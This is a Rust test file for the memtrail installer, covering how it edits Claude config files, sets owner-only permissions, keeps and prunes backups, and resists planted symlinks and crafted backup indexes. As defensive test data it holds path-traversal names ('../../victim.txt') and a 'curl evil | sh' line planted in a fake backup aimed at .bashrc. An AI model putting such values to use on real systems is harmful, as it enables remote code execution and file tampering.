//! What apply does on disk: symlinks, permission bits, backups and the install state.
#![cfg(unix)]

use crate::common;

use common::Sandbox;
use memtrail_installer::{Action, Agent, Outcome};
use serde_json::{Value, json};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
}

#[test]
fn symlinked_config_is_edited_at_its_target() {
    let sb = Sandbox::new();
    let dotfiles = sb.dir.path().join("home/dotfiles");
    std::fs::create_dir_all(&dotfiles).unwrap();
    std::fs::create_dir_all(&sb.config).unwrap();
    let real = dotfiles.join("claude-settings.json");
    std::fs::write(&real, "{\n  \"model\": \"opus\"\n}\n").unwrap();
    std::os::unix::fs::symlink("../dotfiles/claude-settings.json", &sb.settings).unwrap();
    // A dangling link for .claude.json: its target gets created.
    let real_global = dotfiles.join("claude.json");
    std::os::unix::fs::symlink(&real_global, &sb.global).unwrap();
    let original = sb.snapshot();

    sb.install();
    assert!(
        std::fs::symlink_metadata(&sb.settings)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(
        std::fs::symlink_metadata(&sb.global)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert!(sb.json(&real)["hooks"]["Stop"].is_array());
    assert!(sb.json(&real_global)["mcpServers"]["memtrail"].is_object());
    assert_eq!(mode(&real_global), 0o600);

    sb.uninstall();
    assert_eq!(sb.snapshot(), original, "links intact, targets restored");
}

/// What memtrail writes is owner-only: an edited file keeps its owner's bits and loses the
/// others' (0640 → 0600, 0755 → 0700), given back by uninstall; a created one is 0600 in 0700
/// folders, and a skill folder of memtrail's that an older version left open is tightened.
#[test]
fn edited_files_become_owner_only_and_new_files_are_0600() {
    let sb = Sandbox::new();
    sb.put(&sb.global, Some("{}\n"));
    std::fs::set_permissions(&sb.global, std::fs::Permissions::from_mode(0o640)).unwrap();
    sb.put(&sb.settings, Some("{}\n"));
    std::fs::set_permissions(&sb.settings, std::fs::Permissions::from_mode(0o755)).unwrap();
    sb.put(&sb.skill, Some("---\nname: memtrail\ndescription: Search the user's past coding-agent sessions (an old version)\n---\nold\n"));
    let skill_dir = sb.skill.parent().unwrap();
    std::fs::set_permissions(skill_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    sb.install();
    assert_eq!(mode(&sb.global), 0o600);
    assert_eq!(mode(&sb.settings), 0o700);
    assert_eq!(mode(&sb.skill), 0o600);
    assert_eq!(mode(skill_dir), 0o700);
    sb.uninstall();
    // Uninstall gives the edited files their bits back (install took them, nobody changed
    // the mode since).
    assert_eq!(mode(&sb.global), 0o640);
    assert_eq!(mode(&sb.settings), 0o755);
    // A mode the user changed since install is not replaced by the old one (the write makes
    // it owner-only, as every write of memtrail's).
    sb.install();
    std::fs::set_permissions(&sb.global, std::fs::Permissions::from_mode(0o620)).unwrap();
    sb.uninstall();
    assert_eq!(mode(&sb.global), 0o600);
    assert_eq!(mode(&sb.settings), 0o755);
    sb.put(&sb.settings, None);
    std::fs::remove_dir_all(&sb.config).unwrap();
    sb.install();
    assert_eq!(mode(&sb.settings), 0o600);
    assert_eq!(mode(&sb.skill), 0o600);
    for d in [
        &sb.config,
        &sb.config.join("skills"),
        &skill_dir.to_path_buf(),
    ] {
        assert_eq!(mode(d), 0o700, "{}", d.display());
    }

    let sb = Sandbox::with_config_dir();
    sb.install();
    assert_eq!(mode(&sb.global), 0o600, "a new .claude.json is owner-only");
}

#[test]
fn backups_and_their_index() {
    let sb = Sandbox::new();
    sb.put(&sb.settings, Some("{\n  \"model\": \"opus\"\n}\n"));
    sb.put(
        &sb.global,
        Some("{\"oauthAccount\": {\"emailAddress\": \"a@b.c\"}}"),
    );
    let applied = sb.install();
    let dir = applied.backup_dir.clone().expect("a backup dir");
    let name = dir.file_name().unwrap().to_str().unwrap().to_string();
    assert_eq!(dir.parent().unwrap(), sb.state_dir().join("backups"));
    // YYYYMMDDTHHMMSSZ-<pid>
    let (stamp, uniq) = name.split_once('-').unwrap();
    assert_eq!(stamp.len(), 16, "{name}");
    assert!(
        stamp.ends_with('Z') && stamp.as_bytes()[8] == b'T',
        "{name}"
    );
    assert!(
        uniq.chars().all(|c| c.is_ascii_digit() || c == '-'),
        "{name}"
    );
    assert_eq!(mode(&dir), 0o700);

    let index: Value =
        serde_json::from_slice(&std::fs::read(dir.join("index.json")).unwrap()).unwrap();
    assert_eq!(index["action"], "install");
    assert_eq!(
        index["files"]["1-settings.json"],
        sb.settings.to_str().unwrap()
    );
    assert_eq!(
        index["files"]["2-.claude.json"],
        sb.global.to_str().unwrap()
    );
    assert_eq!(index["absent"], json!([sb.skill.to_str().unwrap()]));
    assert_eq!(
        std::fs::read_to_string(dir.join("1-settings.json")).unwrap(),
        "{\n  \"model\": \"opus\"\n}\n"
    );
    assert_eq!(
        mode(&dir.join("2-.claude.json")),
        0o600,
        "backups are owner-only"
    );
    for f in &applied.files {
        assert_eq!(f.attempts, 1);
        assert!(matches!(f.outcome, Outcome::Updated | Outcome::Created));
    }

    // A second apply in the same second gets its own directory.
    let applied2 = sb.uninstall();
    let dir2 = applied2.backup_dir.unwrap();
    assert_ne!(dir, dir2);
    let index2: Value =
        serde_json::from_slice(&std::fs::read(dir2.join("index.json")).unwrap()).unwrap();
    assert_eq!(index2["action"], "uninstall");
    assert_eq!(index2["files"].as_object().unwrap().len(), 3);
}

#[test]
fn install_state_records_what_install_created() {
    let sb = Sandbox::new();
    sb.put(
        &sb.settings,
        Some("{\n  \"hooks\": {\n    \"Stop\": []\n  }\n}\n"),
    );
    sb.put(&sb.global, Some("{ }"));
    sb.install();
    let state_path = sb.state_dir().join("install-state.json");
    assert_eq!(mode(&state_path), 0o600);
    let st: Value = serde_json::from_slice(&std::fs::read(&state_path).unwrap()).unwrap();
    let settings = &st["files"][sb.settings.to_str().unwrap()];
    let created: Vec<Vec<String>> = serde_json::from_value(settings["created"].clone()).unwrap();
    assert!(
        !created.contains(&vec!["hooks".to_string()]),
        "hooks existed"
    );
    assert!(
        !created.contains(&vec!["hooks".to_string(), "Stop".to_string()]),
        "Stop existed"
    );
    assert!(created.contains(&vec!["hooks".to_string(), "SessionEnd".to_string()]));
    assert_eq!(
        settings["empty_inner"],
        json!([{"path": ["hooks", "Stop"], "inner": ""}])
    );
    assert_eq!(settings["created_file"], false);
    let global = &st["files"][sb.global.to_str().unwrap()];
    assert_eq!(global["created"], json!([["mcpServers"]]));
    assert_eq!(global["empty_inner"], json!([{"path": [], "inner": " "}]));
    let skill = &st["files"][sb.skill.to_str().unwrap()];
    assert_eq!(skill["created_file"], true);
    let dirs: Vec<String> = serde_json::from_value(skill["created_dirs"].clone()).unwrap();
    assert_eq!(dirs.len(), 2, "skills/ and skills/memtrail/: {dirs:?}");

    sb.uninstall();
    assert!(!state_path.exists(), "an empty state is removed");
    assert_eq!(std::fs::read_to_string(&sb.global).unwrap(), "{ }");
    assert!(!sb.config.join("skills").exists());
}

#[test]
fn plan_reports_each_file_and_line() {
    let sb = Sandbox::new();
    let plan = sb.plan(Action::Install);
    let files: Vec<_> = plan.files().iter().map(|f| f.path.clone()).collect();
    assert_eq!(
        files,
        vec![sb.settings.clone(), sb.global.clone(), sb.skill.clone()]
    );
    for f in plan.files() {
        assert!(f.before.is_none() && f.after.is_some());
    }
    let lines = plan.describe();
    assert_eq!(lines.len(), 8, "{lines:#?}");
    assert_eq!(lines[0], "~/.claude/settings.json: add hook SessionStart");
    assert_eq!(lines[6], "~/.claude.json: add MCP server memtrail");
    assert_eq!(
        lines[7],
        "~/.claude/skills/memtrail/SKILL.md: add skill memtrail"
    );
    // Diff headers name files by their absolute paths (git's `a` + path), never `~`.
    let diff = plan.diff();
    assert!(
        diff.contains(&format!("--- /dev/null\n+++ b{}\n", sb.global.display())),
        "{diff}"
    );
    assert!(!diff.contains("~/"), "{diff}");
    sb.install();
    let un = sb.plan(Action::Uninstall);
    assert!(
        un.files().iter().any(|f| f.after.is_none()),
        "created files are deleted"
    );
    assert!(un.diff().contains("+++ /dev/null"));
    assert!(
        un.diff()
            .contains(&format!("--- a{}\n+++ /dev/null\n", sb.settings.display())),
        "{}",
        un.diff()
    );
    assert_eq!(un.action(), Action::Uninstall);
}

/// The backup folders, oldest first.
fn backup_dirs(sb: &Sandbox) -> Vec<std::path::PathBuf> {
    let mut dirs: Vec<(String, u64, std::path::PathBuf)> =
        std::fs::read_dir(sb.state_dir().join("backups"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .map(|d| {
                let index: Value =
                    serde_json::from_slice(&std::fs::read(d.join("index.json")).unwrap()).unwrap();
                (
                    index["created_at"].as_str().unwrap().to_string(),
                    index["created_ns"].as_u64().unwrap_or(0),
                    d,
                )
            })
            .collect();
    dirs.sort();
    dirs.into_iter().map(|(_, _, d)| d).collect()
}

fn index_of(dir: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(dir.join("index.json")).unwrap()).unwrap()
}

#[test]
fn backups_are_pruned_to_the_originals_and_the_last_five() {
    let sb = Sandbox::new();
    let settings0 = "{\n  \"model\": \"opus\"\n}\n";
    let global0 = "{\n  \"oauthAccount\": {\"emailAddress\": \"a@b.c\"}\n}\n";
    sb.put(&sb.settings, Some(settings0));
    sb.put(&sb.global, Some(global0));
    std::fs::set_permissions(&sb.global, std::fs::Permissions::from_mode(0o644)).unwrap();
    let mut made = Vec::new();
    for i in 0..8 {
        made.push(sb.install().backup_dir.unwrap());
        // The user changes a setting between runs.
        let text = std::fs::read_to_string(&sb.settings).unwrap().replacen(
            "\"opus\"",
            &format!("\"model-{i}\""),
            1,
        );
        std::fs::write(&sb.settings, text).unwrap();
        made.push(sb.uninstall().backup_dir.unwrap());
        std::fs::write(&sb.settings, settings0).unwrap();
    }
    assert_eq!(made.len(), 16, "a backup for each change");
    // What stays: the first-ever backup (the pristine originals) and the 5 most recent.
    let mut want = vec![made[0].clone()];
    want.extend_from_slice(&made[11..]);
    assert_eq!(backup_dirs(&sb), want);
    let first = &made[0];
    let index = index_of(first);
    assert_eq!(index["action"], "install");
    assert_eq!(
        std::fs::read_to_string(first.join("1-settings.json")).unwrap(),
        settings0
    );
    assert_eq!(
        std::fs::read_to_string(first.join("2-.claude.json")).unwrap(),
        global0
    );
    assert_eq!(index["absent"], json!([sb.skill.to_str().unwrap()]));
    // Owner only, whatever the originals' modes.
    let root = sb.state_dir().join("backups");
    assert_eq!(mode(&root), 0o700);
    for d in backup_dirs(&sb) {
        assert_eq!(mode(&d), 0o700, "{}", d.display());
        for f in std::fs::read_dir(&d).unwrap() {
            let f = f.unwrap().path();
            assert_eq!(mode(&f), 0o600, "{}", f.display());
        }
    }
    // The state lost, uninstall still finds the originals in the first backup.
    sb.install();
    std::fs::remove_file(sb.state_dir().join("install-state.json")).unwrap();
    sb.uninstall();
    assert_eq!(std::fs::read_to_string(&sb.settings).unwrap(), settings0);
    assert_eq!(std::fs::read_to_string(&sb.global).unwrap(), global0);
}

/// A backup index that names a file outside its folder (`../../victim.txt`, `/abs`; memtrail
/// never writes such names, a planted or edited index could) never makes a prune delete it.
#[test]
fn a_prune_deletes_only_files_of_the_backup_folder() {
    let sb = Sandbox::new();
    let root = sb.state_dir().join("backups");
    let victim = sb.state_dir().join("victim.txt");
    let outside = sb.state_dir().parent().unwrap().join("outside.txt");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(&victim, "keep\n").unwrap();
    std::fs::write(&outside, "keep\n").unwrap();
    // Two old folders: the second holds a later copy of /orig/a (pruned) under crafted names.
    let a = root.join("20200101T000000Z-1");
    let b = root.join("20200101T000001Z-2");
    for d in [&a, &b] {
        std::fs::create_dir_all(d).unwrap();
    }
    std::fs::write(a.join("1-a"), "a\n").unwrap();
    std::fs::write(
        a.join("index.json"),
        json!({"created_at": "2020-01-01T00:00:00Z", "created_ns": 1u64, "action": "install",
               "files": {"1-a": "/orig/a"}, "absent": []})
        .to_string(),
    )
    .unwrap();
    std::fs::write(b.join("2-b"), "b\n").unwrap();
    std::fs::write(
        b.join("index.json"),
        json!({"created_at": "2020-01-01T00:00:01Z", "created_ns": 2u64, "action": "install",
               "files": {"../../victim.txt": "/orig/a", outside.to_str().unwrap(): "/orig/a",
                         "2-b": "/orig/b"}, "absent": []})
        .to_string(),
    )
    .unwrap();
    sb.put(&sb.settings, Some("{}\n"));
    sb.install();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep\n");
    assert_eq!(std::fs::read_to_string(&outside).unwrap(), "keep\n");
    // The prune did run: the second folder keeps only its first-ever copy.
    assert_eq!(index_of(&b)["files"], json!({"2-b": "/orig/b"}));
}

/// A backup is a config as it was, API keys included: the recent ones are kept for 30 days,
/// not forever (each file's first-ever copy stays). `backups_in` reports count, size and age.
#[test]
fn recent_backups_older_than_30_days_are_pruned_but_the_originals_stay() {
    let sb = Sandbox::new();
    let settings0 = "{\n  \"model\": \"opus\"\n}\n";
    let global0 = "{\n  \"primaryApiKey\": \"sk-ant-api03-not-a-real-key\"\n}\n";
    sb.put(&sb.settings, Some(settings0));
    sb.put(&sb.global, Some(global0));
    let made = [
        sb.install().backup_dir.unwrap(),
        sb.uninstall().backup_dir.unwrap(),
        sb.install().backup_dir.unwrap(),
        sb.uninstall().backup_dir.unwrap(),
    ];
    let none = memtrail_installer::backups_in(&sb.env);
    // An install copies settings.json and .claude.json (the skill was absent); an uninstall
    // copies those and the skill.
    assert_eq!((none.folders, none.copies), (4, 2 + 3 + 2 + 3));
    let bytes: u64 = made
        .iter()
        .flat_map(|d| std::fs::read_dir(d).unwrap())
        .map(|e| e.unwrap().path())
        .filter(|p| !p.ends_with("index.json"))
        .map(|p| std::fs::metadata(p).unwrap().len())
        .sum();
    assert_eq!(none.bytes, bytes);
    // The first three were made in January 2000 (days 10957.. since the epoch).
    for (i, d) in made[..3].iter().enumerate() {
        let mut index = index_of(d);
        index["created_at"] = json!(format!("2000010{}T000000Z", i + 1));
        index["created_ns"] = json!((10_957 + i as u64) * 86_400 * 1_000_000_000);
        std::fs::write(d.join("index.json"), serde_json::to_vec(&index).unwrap()).unwrap();
    }
    let summary = memtrail_installer::backups_in(&sb.env);
    assert_eq!(summary.oldest_ms, Some(10_957 * 86_400_000));
    // As `status --json` prints it (docs/json.md): the times in RFC 3339.
    let printed = serde_json::to_value(&summary).unwrap();
    assert_eq!(printed["oldest"], json!("2000-01-01T00:00:00.000Z"));
    assert_eq!(
        printed.as_object().unwrap().keys().collect::<Vec<_>>(),
        ["dir", "folders", "copies", "bytes", "oldest", "newest"]
    );
    assert_eq!(
        summary.newest_ms,
        Some((index_of(&made[3])["created_ns"].as_u64().unwrap() / 1_000_000) as i64)
    );
    let newest = sb.install().backup_dir.unwrap();
    // made[0] holds the originals (kept, however old); made[1] and made[2] are too old.
    assert_eq!(
        backup_dirs(&sb),
        vec![made[0].clone(), made[3].clone(), newest]
    );
    assert_eq!(
        std::fs::read_to_string(made[0].join("2-.claude.json")).unwrap(),
        global0
    );
}

#[test]
fn an_old_backup_kept_for_an_original_keeps_only_that() {
    let sb = Sandbox::new();
    sb.put(&sb.settings, Some("{}\n"));
    // memtrail's MCP entry is already there: the first install does not touch `.claude.json`.
    let global0 = format!(
        "{{\n  \"mcpServers\": {{\n    \"memtrail\": {{\"type\": \"stdio\", \"command\": {}, \"args\": [\"mcp\"], \"env\": {{}}}}\n  }}\n}}\n",
        serde_json::to_string(sb.bin.to_str().unwrap()).unwrap()
    );
    sb.put(&sb.global, Some(&global0));
    let first = sb.install();
    assert!(first.files.iter().all(|f| f.path != sb.global));
    let first = first.backup_dir.unwrap();
    let moved = sb.dir.path().join("moved/memtrail");
    let bins = [&moved, &sb.bin];
    let mut made = vec![first.clone()];
    for i in 0..6 {
        let plan = sb.plan_with(Action::Install, bins[i % 2]);
        made.push(
            memtrail_installer::apply(&plan)
                .unwrap()
                .backup_dir
                .unwrap(),
        );
    }
    // made[1] is the first backup of `.claude.json`, older than the last five: it stays, with
    // only that copy.
    assert_eq!(backup_dirs(&sb), made);
    let kept = &made[1];
    let index = index_of(kept);
    assert_eq!(
        index["files"],
        json!({"2-.claude.json": sb.global.to_str().unwrap()})
    );
    assert_eq!(index["absent"], json!([]));
    assert!(!kept.join("1-settings.json").exists());
    assert_eq!(
        std::fs::read_to_string(kept.join("2-.claude.json")).unwrap(),
        global0
    );
    assert_eq!(
        std::fs::read_to_string(first.join("1-settings.json")).unwrap(),
        "{}\n"
    );
    // One more: made[2] goes (nothing first in it), made[1] and made[0] stay.
    let plan = sb.plan_with(Action::Install, &moved);
    made.push(
        memtrail_installer::apply(&plan)
            .unwrap()
            .backup_dir
            .unwrap(),
    );
    let mut want = vec![made[0].clone(), made[1].clone()];
    want.extend_from_slice(&made[3..]);
    assert_eq!(backup_dirs(&sb), want);
}

/// All or nothing per agent: when a file cannot be written (here the skill's folder cannot be
/// made, `skills` being a file), the files already changed are put back byte for byte with
/// their modes, the install state is as before and the backup of the failed apply is gone.
/// Before, settings.json and .claude.json stayed changed: a half-installed agent.
#[test]
fn a_failed_apply_puts_back_what_it_changed() {
    let sb = Sandbox::new();
    sb.put(&sb.settings, Some("{\n  \"model\": \"opus\"\n}\n"));
    std::fs::set_permissions(&sb.settings, std::fs::Permissions::from_mode(0o644)).unwrap();
    sb.put(&sb.global, Some("{\"numStartups\": 3}"));
    let plan = sb.plan(Action::Install);
    assert_eq!(plan.files().len(), 3);
    // The skill's folder cannot be made once the plan is computed.
    std::fs::write(sb.config.join("skills"), "not a folder").unwrap();
    let original = sb.snapshot();
    let err = memtrail_installer::apply(&plan).expect_err("the skill cannot be written");
    assert!(err.to_string().contains("skills"), "{err}");
    assert_eq!(
        sb.snapshot(),
        original,
        "nothing of the agent is left changed"
    );
    assert_eq!(mode(&sb.settings), 0o644, "the mode is put back too");
    assert!(!sb.state_dir().join("install-state.json").exists());
    let backups = sb.state_dir().join("backups");
    let left = std::fs::read_dir(&backups).map(|d| d.count()).unwrap_or(0);
    assert_eq!(left, 0, "the failed apply's backup is gone");
    // Once the cause is gone, the same install goes through.
    std::fs::remove_file(sb.config.join("skills")).unwrap();
    sb.install();
    assert!(sb.json(&sb.settings)["hooks"]["Stop"].is_array());
}

/// A `backups` folder (or state folder) that is a symlink to another folder is refused, naming
/// it, before any change: backups hold the configs with their API keys and never go (or get
/// chmod-ed) where a planted link points.
#[cfg(unix)]
#[test]
fn a_symlinked_backups_or_state_folder_is_refused() {
    for link_state in [false, true] {
        let sb = Sandbox::new();
        let elsewhere = sb.dir.path().join("elsewhere");
        std::fs::create_dir_all(&elsewhere).unwrap();
        std::fs::set_permissions(&elsewhere, std::fs::Permissions::from_mode(0o755)).unwrap();
        let link = if link_state {
            sb.state_dir()
        } else {
            sb.state_dir().join("backups")
        };
        std::fs::create_dir_all(link.parent().unwrap()).unwrap();
        std::os::unix::fs::symlink(&elsewhere, &link).unwrap();
        sb.put(
            &sb.settings,
            Some("{\"env\": {\"ANTHROPIC_API_KEY\": \"sk-ant-x\"}}\n"),
        );
        let before = sb.snapshot();
        let err = memtrail_installer::apply(&sb.plan(Action::Install))
            .unwrap_err()
            .to_string();
        assert_eq!(
            err,
            format!(
                "{}: is a symlink: memtrail keeps its config backups (which hold API keys) only in a folder of its own; remove it and run memtrail again",
                link.display()
            )
        );
        assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
        assert_eq!(mode(&elsewhere), 0o755);
        assert_eq!(sb.snapshot(), before);
    }
}

/// Uninstall never writes where a backup index says: a crafted `index.json` whose originals
/// name other files (a copy "of" a victim file, a victim "absent" before) leaves them as they
/// are; only the files of the agent's plan are touched, as the install state records them.
#[test]
fn uninstall_writes_only_the_files_it_edited_whatever_a_backup_index_names() {
    let sb = Sandbox::new();
    sb.put(&sb.settings, Some("{\"model\": \"opus\"}\n"));
    sb.install();
    let victim = sb.dir.path().join("home/.bashrc");
    let absent = sb.dir.path().join("home/notes.txt");
    sb.put(&victim, Some("mine\n"));
    sb.put(&absent, Some("keep\n"));
    let crafted = sb.state_dir().join("backups/20200101T000000Z-1");
    std::fs::create_dir_all(&crafted).unwrap();
    std::fs::write(crafted.join("1-x"), "curl evil | sh\n").unwrap();
    std::fs::write(
        crafted.join("index.json"),
        json!({"created_at": "2020-01-01T00:00:00Z", "created_ns": 1u64, "action": "install",
               "files": {"1-x": victim.to_str().unwrap()},
               "absent": [absent.to_str().unwrap()]})
        .to_string(),
    )
    .unwrap();
    sb.uninstall();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine\n");
    assert_eq!(std::fs::read_to_string(&absent).unwrap(), "keep\n");
    assert_eq!(
        std::fs::read_to_string(&sb.settings).unwrap(),
        "{\"model\": \"opus\"}\n"
    );
}

/// Run as root with another account's HOME (`sudo -E memtrail install`, or macOS `sudo`): the
/// folders and files memtrail creates for its state and backups belong to the home's owner, as
/// the edited configs do, so that the user's own later installs can write there.
#[cfg(target_os = "linux")]
#[test]
fn root_installing_into_another_accounts_home_leaves_nothing_of_roots() {
    use std::os::unix::fs::MetadataExt;
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("not root: skipped");
        return;
    }
    let b = common::AgentBox::new(Agent::Claude);
    let state = b.home.join(".local/state");
    let b = b.with_var("XDG_STATE_HOME", &state);
    std::fs::create_dir_all(b.home.join(".claude")).unwrap();
    let (uid, gid) = (65534, 65534);
    for d in [&b.home, &b.home.join(".claude")] {
        std::os::unix::fs::chown(d, Some(uid), Some(gid)).unwrap();
    }
    b.install();
    b.uninstall();
    b.install();
    let mut seen = 0;
    let mut stack = vec![b.home.join(".local")];
    while let Some(p) = stack.pop() {
        let m = std::fs::symlink_metadata(&p).unwrap();
        assert_eq!((m.uid(), m.gid()), (uid, gid), "{}", p.display());
        seen += 1;
        if m.is_dir() {
            stack.extend(std::fs::read_dir(&p).unwrap().map(|e| e.unwrap().path()));
        }
    }
    assert!(
        seen >= 5,
        "the state folder, its backups and their files: {seen}"
    );
    assert!(state.join("memtrail/install-state.json").exists());
}

/// A config with another hard link (a dotfiles folder linking its copy into place) is written
/// in place: both names see the install and the uninstall, stay one file (same inode, two
/// links), and get back their exact bytes and mode. Before, the rename split them: the
/// dotfiles copy kept the old bytes and the agent's name became a separate file.
#[cfg(unix)]
#[test]
fn a_hard_linked_config_is_written_in_place() {
    use std::os::unix::fs::MetadataExt;
    let sb = Sandbox::new();
    let text = "{\n  \"model\": \"opus\"\n}\n";
    let dotfiles = sb.dir.path().join("dotfiles/claude-settings.json");
    std::fs::create_dir_all(dotfiles.parent().unwrap()).unwrap();
    std::fs::write(&dotfiles, text).unwrap();
    std::fs::set_permissions(&dotfiles, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::create_dir_all(&sb.config).unwrap();
    std::fs::hard_link(&dotfiles, &sb.settings).unwrap();
    let ino = std::fs::metadata(&dotfiles).unwrap().ino();
    let linked = |what: &str| {
        let (a, b) = (
            std::fs::metadata(&dotfiles).unwrap(),
            std::fs::metadata(&sb.settings).unwrap(),
        );
        assert_eq!((a.ino(), b.ino(), a.nlink()), (ino, ino, 2), "{what}");
        std::fs::read_to_string(&dotfiles).unwrap()
    };
    sb.install();
    let installed = linked("after install");
    assert!(
        !common::memtrail_handlers(&sb.json(&sb.settings), "Stop").is_empty(),
        "{installed}"
    );
    assert_eq!(mode(&dotfiles), 0o600);
    assert!(sb.plan(Action::Install).is_empty());
    sb.uninstall();
    assert_eq!(linked("after uninstall"), text);
    assert_eq!(mode(&dotfiles), 0o644);
}
